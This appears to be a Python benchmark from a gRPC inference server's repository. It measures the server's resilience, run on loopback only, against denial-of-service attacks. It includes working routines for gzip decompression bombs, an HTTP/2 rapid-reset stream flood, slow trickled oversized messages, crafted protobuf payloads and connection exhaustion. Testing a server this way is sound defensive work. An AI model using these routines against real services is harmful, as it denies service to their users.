"""The gRPC door's attacks (issue 40), measured against a real server: what each costs it (peak
RSS growth, the status and time of its answer, descriptors) and whether a keyed bystander is
served beside it. Run through bench/attacks.py (`--tree /path/to/main` for the before figures):

    grpc-trickle     20 callers without a key each declare a 120 MB message and send all of it
                     but its last byte, then wait (the server's peak RSS, the answers)
    grpc-gzip        12 gzip messages of ~120 KB that inflate to 120 MB of zeros, without a key
                     and then with one (peak RSS, the statuses)
    grpc-crafted     one keyed 4 MiB message of 2 M empty inputs (time to its answer, peak RSS)
    grpc-never-read  8 keyed callers that never read a 16 MiB answer (weights; peak RSS, status)
    grpc-reset       rapid reset for 5 s without a key beside a keyed tritonclient bystander
    grpc-connections 3,000 idle HTTP/2 connections (open after 2 s, descriptors, /healthz)

Servers: SDPA_MAX_BODY_BYTES = 128 MiB, SDPA_MAX_INFLIGHT_BYTES = 256 MiB (the issue's), API keys
set, SDPA_SEND_TIMEOUT_S = 3, SDPA_READ_TIMEOUT_S = 5. The raw HTTP/2 client is the e2e tests'
(tests/support/h2_grpc.py). Every loop is bounded in time; loopback only.
"""

from __future__ import annotations

import multiprocessing
import os
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import numpy as np

from bench.support import BenchServer, attacked_server, free_port, memory_mb, reset_peak
from tests.support import h2_grpc

MiB = 1 << 20
KEY = "bench-grpc-key"
BENCH = Path(__file__).resolve().parent


@contextmanager
def grpc_server(**env: str) -> Iterator[tuple[BenchServer, int]]:
    port = free_port()
    settings = {
        "SDPA_API_KEYS": KEY,
        "SDPA_GRPC_PORT": str(port),
        "SDPA_MAX_BODY_BYTES": str(128 * MiB),
        "SDPA_MAX_INFLIGHT_BYTES": str(256 * MiB),
        "SDPA_SEND_TIMEOUT_S": "3",
        "SDPA_READ_TIMEOUT_S": "5",
        "SDPA_COMPILE_KERNELS": "false",
        **env,
    }
    with attacked_server(settings) as server:
        yield server, port


def _peak_growth(server: BenchServer, base: float) -> float:
    return memory_mb(server)["VmHWM"] - base


def _statuses(streams: list[Any]) -> dict[str, int]:
    counts: dict[str, int] = {}
    for stream in streams:
        key = stream.status or ("reset" if stream.reset is not None else "none")
        counts[key] = counts.get(key, 0) + 1
    return counts


def infer_message(shape: tuple[int, ...], *, outputs: tuple[str, ...] = ()) -> bytes:
    from service.wire.grpc import grpc_predict_v2_pb2 as pb

    rng = np.random.default_rng(0)
    request = pb.ModelInferRequest(model_name="attention")
    for name in ("q", "k", "v"):
        request.inputs.add(name=name, datatype="FP32", shape=list(shape))
        request.raw_input_contents.append(rng.standard_normal(shape).astype(np.float32).tobytes())
    for name in outputs:
        request.outputs.add(name=name)
    return request.SerializeToString()


def trickle(callers: int = 20, size: int = 120 * 1000 * 1000) -> None:
    with grpc_server() as (server, port):
        base = reset_peak(server)
        body = h2_grpc.frame(b"\x00" * size)[:-1]  # all but the last byte
        clients = [h2_grpc.RawGrpc(port, timeout=30) for _ in range(callers)]
        streams = [(c, c.open(h2_grpc.call_headers(port), b"", end=False)) for c in clients]
        started = time.monotonic()
        for client, stream_id in streams:  # each sends what the server lets it, for 10 s at most
            client.send_all(stream_id, body, seconds=10.0 / callers, end=False)
        for _ in range(20):
            for client, _ in streams:
                client.pump(0.01)
        results = [client.wait(stream_id, 5) for client, stream_id in streams]
        print(
            f"{callers} unkeyed callers, {size / 1e6:.0f} MB messages but the last byte: answers "
            f"{_statuses(results)} within {time.monotonic() - started:.1f} s; peak RSS "
            f"+{_peak_growth(server, base):.0f} MiB"
        )
        for client in clients:
            client.close()


def gzip_bombs(callers: int = 12, inflated: int = 120 * 1000 * 1000) -> None:
    bomb = h2_grpc.gzip_frame(b"\x00" * inflated)
    with grpc_server() as (server, port):
        for key in (None, KEY):
            base = reset_peak(server)
            headers = h2_grpc.call_headers(port, key=key, extra=(("grpc-encoding", "gzip"),))
            clients = [h2_grpc.RawGrpc(port, timeout=30) for _ in range(callers)]
            started = time.monotonic()
            streams = [(c, c.open(headers, b"", end=False)) for c in clients]
            for client, stream_id in streams:
                client.send_all(stream_id, bomb, seconds=5)
            results = [client.wait(stream_id, 60) for client, stream_id in streams]
            took, growth = time.monotonic() - started, _peak_growth(server, base)
            print(
                f"{callers} gzip messages of {len(bomb) / 1e3:.0f} KB -> {inflated / 1e6:.0f} MB, "
                f"{'keyed' if key else 'no key'}: answers {_statuses(results)} in {took:.1f} s; "
                f"peak RSS +{growth:.0f} MiB"
            )
            for client in clients:
                client.close()


def crafted(entries: int = 2 * MiB) -> None:
    message = h2_grpc.frame(b"\x0a\x09attention" + b"\x2a\x00" * entries)
    with grpc_server() as (server, port):
        base = reset_peak(server)
        client = h2_grpc.RawGrpc(port, timeout=60)
        started = time.monotonic()
        stream_id = client.open(h2_grpc.call_headers(port, key=KEY), b"", end=False)
        client.send_all(stream_id, message, seconds=30)
        stream = client.wait(stream_id, 120)
        took = time.monotonic() - started
        print(
            f"{len(message) / MiB:.1f} MiB of {entries:,} empty inputs: status {stream.status} "
            f"({stream.headers.get('grpc-message', '')[:60]!r}) in {took:.2f} s; peak RSS "
            f"+{_peak_growth(server, base):.0f} MiB"
        )
        client.close()


def never_read(callers: int = 8) -> None:
    # [1, 16, 512, 16] inputs (0.5 MiB each), their [1, 16, 512, 512] weights: 16 MiB.
    message = h2_grpc.frame(infer_message((1, 16, 512, 16), outputs=("weights",)))
    env = {"SDPA_MAX_WEIGHTS_ELEMENTS": str(1 << 23)}
    with grpc_server(**env) as (server, port):
        base = reset_peak(server)
        clients = [h2_grpc.RawGrpc(port, window=16, timeout=30) for _ in range(callers)]
        streams = []
        for client in clients:
            stream_id = client.open(h2_grpc.call_headers(port, key=KEY), b"", end=False)
            client.send_all(stream_id, message, seconds=10)
            streams.append((client, stream_id))
        results = [client.wait(stream_id, 20) for client, stream_id in streams]
        log = server.log()
        dropped, cancelled = log.count("SDPA_SEND_TIMEOUT_S"), log.count('"status":499')
        print(
            f"{callers} keyed callers never reading a 16 MiB answer: {_statuses(results)}; "
            f"send-timeout lines {dropped}, 499s {cancelled}; peak RSS "
            f"+{_peak_growth(server, base):.0f} MiB"
        )
        for client in clients:
            client.close()


def _bystander(target: str, ready: Any, stop: Any, results: Any) -> None:
    import sys

    # Run as bench/attacks.py, the script's folder is on sys.path, and its grpc.py (the gRPC
    # benchmark) would stand for the grpc package that tritonclient imports.
    sys.path[:] = [entry for entry in sys.path if Path(entry or ".").resolve() != BENCH]
    import tritonclient.grpc as grpcclient

    client = grpcclient.InferenceServerClient(target)
    arrays = [np.random.default_rng(1).standard_normal((1, 2, 8, 16), dtype=np.float32)] * 3
    ok, failures, worst = 0, [], 0.0
    while not stop.is_set():
        inputs = []
        for name, array in zip(("q", "k", "v"), arrays, strict=True):
            tensor = grpcclient.InferInput(name, list(array.shape), "FP32")
            tensor.set_data_from_numpy(array)
            inputs.append(tensor)
        started = time.monotonic()
        try:
            client.infer("attention", inputs, headers={"authorization": f"Bearer {KEY}"})
            ok += 1
            ready.set()
        except Exception as exc:
            failures.append(repr(exc)[:120])
        worst = max(worst, time.monotonic() - started)
        time.sleep(0.02)
    client.close()
    results.put((ok, failures, worst))


def rapid_reset(seconds: float = 5.0) -> None:
    with grpc_server() as (_server, port):
        context = multiprocessing.get_context("spawn")
        ready, stop, results = context.Event(), context.Event(), context.Queue()
        bystander = context.Process(
            target=_bystander, args=(f"127.0.0.1:{port}", ready, stop, results), daemon=True
        )
        bystander.start()
        ready.wait(60)
        attacker = h2_grpc.RawGrpc(port)
        opened = 0
        give_up = time.monotonic() + seconds
        while time.monotonic() < give_up and not attacker.closed:
            for _ in range(100):
                stream_id = attacker.conn.get_next_available_stream_id()
                attacker.conn.send_headers(stream_id, h2_grpc.call_headers(port))
                attacker.conn.reset_stream(stream_id, error_code=8)
                opened += 1
            try:
                attacker.flush()
            except OSError:
                break
            attacker.pump(0.001)
        attacker.close()
        time.sleep(0.5)
        stop.set()
        ok, failures, worst = results.get(timeout=60)
        bystander.join(timeout=30)
        print(
            f"rapid reset: {opened:,} streams opened and reset in {seconds:.0f} s; GOAWAY "
            f"{attacker.goaway}; bystander {ok} calls ok, {len(failures)} failed "
            f"{failures[:2]}, worst {worst * 1000:.0f} ms"
        )


def connections(count: int = 3000) -> None:
    import httpx

    with grpc_server(SDPA_MAX_CONNECTIONS="2048") as (server, port):
        pid = server.process.pid
        before = len(os.listdir(f"/proc/{pid}/fd"))
        clients = []
        for _ in range(count):
            try:
                clients.append(h2_grpc.RawGrpc(port, timeout=5))
            except OSError:
                break
        time.sleep(2.0)
        for client in clients:
            client.pump(0.001)
        still = sum(not client.closed for client in clients)
        fds = len(os.listdir(f"/proc/{pid}/fd")) - before
        health = httpx.get(f"{server.url}/healthz", timeout=10).status_code
        print(
            f"{len(clients)} idle HTTP/2 connections opened: {still} still open after 2 s, "
            f"server descriptors +{fds}; /healthz {health}"
        )
        for client in clients:
            client.close()


ATTACKS: dict[str, Callable[[], None]] = {
    "grpc-trickle": trickle,
    "grpc-gzip": gzip_bombs,
    "grpc-crafted": crafted,
    "grpc-never-read": never_read,
    "grpc-reset": rapid_reset,
    "grpc-connections": connections,
}
